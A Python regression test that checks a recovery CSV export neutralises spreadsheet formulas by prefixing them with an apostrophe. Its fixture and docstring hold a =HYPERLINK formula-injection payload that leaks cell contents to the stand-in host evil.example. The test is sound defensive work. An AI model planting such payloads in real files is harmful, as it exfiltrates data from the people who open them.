"""Issue 7, item 9: the recovery export neutralises formulas as the responses export does."""

import csv
import io

from tests.recovery.factories import staff_case

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_a_location_named_like_a_formula_is_exported_as_text(cast, client):
    """Reproducer: a location named =HYPERLINK("http://evil.example/?leak="&A1,"Click") came out of
    /recovery/export.csv?group_by=location as a live formula in Excel."""
    cast.cph.name = INJECTION
    cast.cph.save()
    cast.north.name = "+North"
    cast.north.save()
    staff_case(cast)
    client.force_login(cast.owner)
    export = client.get("/recovery/export.csv?group_by=location,region").content.decode()
    rows = list(csv.DictReader(io.StringIO(export)))
    assert [row["location_name"] for row in rows] == ["'" + INJECTION]
    assert [row["region_name"] for row in rows] == ["'+North"]
